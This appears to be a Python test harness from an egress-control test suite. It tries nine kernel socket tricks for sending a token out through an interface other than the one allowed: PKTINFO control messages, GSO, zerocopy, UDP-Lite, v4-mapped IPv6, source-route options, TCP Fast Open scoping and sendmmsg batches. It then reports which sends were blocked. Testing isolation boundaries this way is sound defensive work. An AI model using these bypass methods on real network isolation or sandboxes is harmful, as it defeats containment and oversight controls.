"""From tests/test_egress_attacks.py (VARIANTS).
"""

import ctypes, errno, json, socket, struct, sys
other, token = int(sys.argv[1]), sys.argv[2]
A4, LL6, PORT = "10.213.0.2", "fe80::2", 7001
def pktinfo(i):
    return [(socket.IPPROTO_IP, 8, struct.pack("=I4s4s", i, bytes(4), bytes(4)))]
def data(name):
    return f"{token}:{name}".encode()
def udp():
    return socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
def udp_gso(n):                     # UDP_SEGMENT: segmented after the hook
    s = udp(); s.setsockopt(socket.IPPROTO_UDP, 103, 200)
    s.sendmsg([(data(n) + b" ").ljust(1000, b"x")], pktinfo(other), 0, (A4, PORT))
def msg_zerocopy(n):
    s = udp(); s.setsockopt(socket.SOL_SOCKET, 60, 1)          # SO_ZEROCOPY
    s.sendmsg([data(n)], pktinfo(other), 0x4000000, (A4, PORT))
def msg_confirm(n):
    udp().sendmsg([data(n)], pktinfo(other), socket.MSG_CONFIRM, (A4, PORT))
def udplite(n):
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136).sendmsg([data(n)], pktinfo(other), 0, (A4, PORT))
def v4mapped_pktinfo(n):            # an AF_INET6 socket takes the IPv4 path and its cmsgs
    s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    s.sendmsg([data(n)], pktinfo(other), 0, ("::ffff:" + A4, PORT, 0, other))
def lsrr_options(n):                # IP_OPTIONS loose source route via A
    s = udp()
    s.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, bytes([131, 7, 4]) + socket.inet_aton(A4) + b"\1")
    s.sendmsg([data(n)], pktinfo(other), 0, (A4, PORT))
def ping_lsrr(n):
    p = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
    p.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, bytes([131, 7, 4]) + socket.inet_aton(A4) + b"\1")
    p.sendmsg([struct.pack("!BBHHH", 8, 0, 0, 0, 1) + data(n)], pktinfo(other), 0, (A4, 0))
def tfo_scope(n):                   # MSG_FASTOPEN to a link-local address of another link
    s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM); s.settimeout(2)
    s.sendto(data(n), socket.MSG_FASTOPEN, (LL6, 7000, 0, other))
def sendmmsg_cmsgs(n):              # one batch: the first datagram by the target, the second by `other`
    libc = ctypes.CDLL(None, use_errno=True)
    class iovec(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
    class msghdr(ctypes.Structure):
        _fields_ = [("name", ctypes.c_void_p), ("namelen", ctypes.c_uint32), ("iov", ctypes.POINTER(iovec)),
                    ("iovlen", ctypes.c_size_t), ("control", ctypes.c_void_p), ("controllen", ctypes.c_size_t),
                    ("flags", ctypes.c_int)]
    class mmsghdr(ctypes.Structure):
        _fields_ = [("hdr", msghdr), ("len", ctypes.c_uint)]
    s, keep, msgs = udp(), [], (mmsghdr * 2)()
    for i, ifindex in enumerate((0, other)):
        name = ctypes.create_string_buffer(struct.pack("=H", socket.AF_INET) + struct.pack("!H", PORT)
                                           + socket.inet_aton(A4) + bytes(8))
        payload = data(f"{n}{i}")
        buf = ctypes.create_string_buffer(payload)
        iov = iovec(ctypes.cast(buf, ctypes.c_void_p), len(payload))
        cmsg = ctypes.create_string_buffer(struct.pack("=QiiI4s4s", 28, socket.IPPROTO_IP, 8, ifindex,
                                                       bytes(4), bytes(4)) + bytes(4))
        keep += [name, buf, iov, cmsg]
        msgs[i].hdr = msghdr(ctypes.cast(name, ctypes.c_void_p), 16, ctypes.pointer(iov), 1,
                             ctypes.cast(cmsg, ctypes.c_void_p), 32, 0)
    sent = libc.sendmmsg(s.fileno(), msgs, 2, 0)
    if sent != 2:
        raise OSError(errno.EPERM if sent == 1 else ctypes.get_errno(), f"sendmmsg sent {sent}")
out = {}
for f in (udp_gso, msg_zerocopy, msg_confirm, udplite, v4mapped_pktinfo, lsrr_options, ping_lsrr,
          tfo_scope, sendmmsg_cmsgs):
    try:
        f(f.__name__); out[f.__name__] = "sent"
    except OSError as e:
        out[f.__name__] = errno.errorcode.get(e.errno, str(e.errno))
print(json.dumps(out))
